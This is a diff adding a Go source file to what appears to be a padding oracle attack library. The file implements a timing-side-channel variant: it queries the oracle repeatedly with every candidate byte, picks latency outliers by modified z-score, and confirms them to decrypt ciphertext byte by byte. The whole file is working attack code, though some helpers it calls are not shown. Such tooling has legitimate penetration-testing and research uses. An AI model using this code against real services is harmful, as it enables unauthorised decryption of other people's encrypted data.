@@ -0,0 +1,187 @@
+package goracler
+
+import (
+	"math"
+	"sort"
+	"time"
+)
+
+// TimingOutlierThreshold is the minimum modified z-score, computed from the
+// median and the median absolute deviation of the latencies of all the
+// candidates for a byte, the latency of a candidate must have to be
+// considered the one producing a valid pad in a timing attack.
+var TimingOutlierThreshold = 3.5
+
+// WithTimingAttack makes the attack find the value of each byte using the time
+// the oracle takes to answer instead of its result, for targets that answer
+// the same for valid and invalid pads but take a different time to process
+// them, for instance, because they only do some work when the pad is valid.
+//
+// For each byte, the oracle is queried with all the candidates, the given
+// number of samples times. The samples are taken in rounds, one query per
+// candidate in each round, so slow drifts of the latency affect all the
+// candidates alike. The candidate whose median latency is an outlier, slower
+// or faster, among the median latencies of all the candidates, according to
+// its modified z-score and TimingOutlierThreshold, is the one producing a
+// valid pad. When more than one candidate is an outlier, the most extreme one
+// is used, except for the last byte of a block, where the candidates are first
+// confirmed as in a regular attack, measuring their latency with the byte
+// before the last one modified. When no candidate is an outlier the attack
+// fails with ErrNoValidByte, which can be retried with WithPositionRetry.
+//
+// The queries are sent one at a time, regardless of the concurrency, to not
+// add noise to the measurements, so an attack sends samples*256 queries per
+// byte and is much slower than a regular one. The difference of time must be
+// consistent and larger than the jitter of the latency: in networks with
+// noisy latencies, or when the target is loaded, many samples are needed and
+// the attack may still pick wrong values, so it's advisable to verify the
+// result, for instance with VerifyPlaintext or SpotCheck run with the same
+// option. The checks of Decrypt relying on the result of the oracle, the
+// one detecting oracles that always report valid pads and the one
+// detecting degenerate classifiers, are not performed, and
+// WithHealthCheckInterval and WithAmbiguityDepth must not be used.
+func WithTimingAttack(samples int) Option {
+	return func(c *config) {
+		c.timingSamples = samples
+	}
+}
+
+// searchTiming searches the value of the byte at the position p that produces
+// a valid pad using the latency of the oracle.
+func searchTiming(prev, current []byte, q Poracle, mi []byte, p int, l Logger, cfg *config) (byte, error) {
+	cands := candidates(prev, mi, p, cfg)
+	probes := make([][]byte, len(cands))
+	for i, g := range cands {
+		cg := buildPad(cfg.padding, cfg.padEnd(), p, g, prev, mi)
+		probes[i] = cfg.buildProbe(cg, current)
+	}
+	medians, err := measureProbes(q, probes, cfg.timingSamples)
+	if err != nil {
+		return 0, err
+	}
+	center, scores := timingScores(medians)
+	var outliers []int
+	for i, z := range scores {
+		if math.Abs(z) > TimingOutlierThreshold {
+			outliers = append(outliers, i)
+		}
+	}
+	if len(outliers) == 0 {
+		return 0, ErrNoValidByte
+	}
+	if len(outliers) > 1 && p == cfg.padEnd() {
+		confirmed, err := confirmTiming(q, prev, current, mi, p, cfg, cands, outliers, medians, center)
+		if err != nil {
+			return 0, err
+		}
+		if len(confirmed) > 0 {
+			outliers = confirmed
+		}
+	}
+	best := outliers[0]
+	for _, i := range outliers[1:] {
+		if math.Abs(scores[i]) > math.Abs(scores[best]) {
+			best = i
+		}
+	}
+	if len(outliers) > 1 {
+		l.Printf("\n%d timing outliers found for byte %d, using the most extreme one", len(outliers), p)
+	}
+	g := cands[best]
+	cfg.trace.try(p, g, true)
+	l.Printf("\ndecrypted byte %d value: %d (median latency %s, %s for the rest)", p, g, medians[best], center)
+	return g, nil
+}
+
+// confirmTiming returns the outliers for the last byte of a block whose
+// latency doesn't change when the byte before the last one is modified, that
+// is, the ones producing the pad 0x01, as explained in confirmLastByte.
+func confirmTiming(q Poracle, prev, current, mi []byte, p int, cfg *config, cands []byte, outliers []int, medians []time.Duration, center time.Duration) ([]int, error) {
+	probes := make([][]byte, len(outliers))
+	for i, o := range outliers {
+		cg := buildPad(cfg.padding, cfg.padEnd(), p, cands[o], prev, mi)
+		cg[p-1] ^= 0x01
+		probes[i] = cfg.buildProbe(cg, current)
+	}
+	confirm, err := measureProbes(q, probes, cfg.timingSamples)
+	if err != nil {
+		return nil, err
+	}
+	var confirmed []int
+	for i, o := range outliers {
+		if absDuration(confirm[i]-medians[o]) < absDuration(confirm[i]-center) {
+			confirmed = append(confirmed, o)
+		}
+	}
+	return confirmed, nil
+}
+
+// measureProbes queries the oracle with each probe the given number of times,
+// in rounds, and returns the median latency of each probe.
+func measureProbes(q Poracle, probes [][]byte, samples int) ([]time.Duration, error) {
+	latencies := make([][]time.Duration, len(probes))
+	for s := 0; s < samples; s++ {
+		for i, probe := range probes {
+			start := time.Now()
+			if _, err := q.Do(probe); err != nil {
+				return nil, err
+			}
+			latencies[i] = append(latencies[i], time.Since(start))
+		}
+	}
+	medians := make([]time.Duration, len(probes))
+	for i := range latencies {
+		medians[i] = medianDuration(latencies[i])
+	}
+	return medians, nil
+}
+
+// timingScores returns the median of the given latencies and the modified
+// z-score of each one of them. When the median absolute deviation is zero,
+// the mean absolute deviation is used instead.
+func timingScores(d []time.Duration) (time.Duration, []float64) {
+	center := medianDuration(d)
+	dev := make([]time.Duration, len(d))
+	var sum float64
+	for i := range d {
+		dev[i] = absDuration(d[i] - center)
+		sum += float64(dev[i])
+	}
+	// The constants make the deviations consistent with the standard
+	// deviation of normally distributed latencies.
+	spread := float64(medianDuration(dev)) / 0.6745
+	if spread == 0 {
+		spread = sum / float64(len(d)) * 1.2533
+	}
+	scores := make([]float64, len(d))
+	if spread == 0 {
+		return center, scores
+	}
+	for i := range d {
+		scores[i] = float64(d[i]-center) / spread
+	}
+	return center, scores
+}
+
+// medianDuration returns the median of the given durations without modifying
+// the slice.
+func medianDuration(d []time.Duration) time.Duration {
+	if len(d) == 0 {
+		return 0
+	}
+	s := make([]time.Duration, len(d))
+	copy(s, d)
+	sort.Slice(s, func(i, j int) bool { return s[i] < s[j] })
+	n := len(s)
+	if n%2 == 1 {
+		return s[n/2]
+	}
+	return (s[n/2-1] + s[n/2]) / 2
+}
+
+func absDuration(d time.Duration) time.Duration {
+	if d < 0 {
+		return -d
+	}
+	return d
+}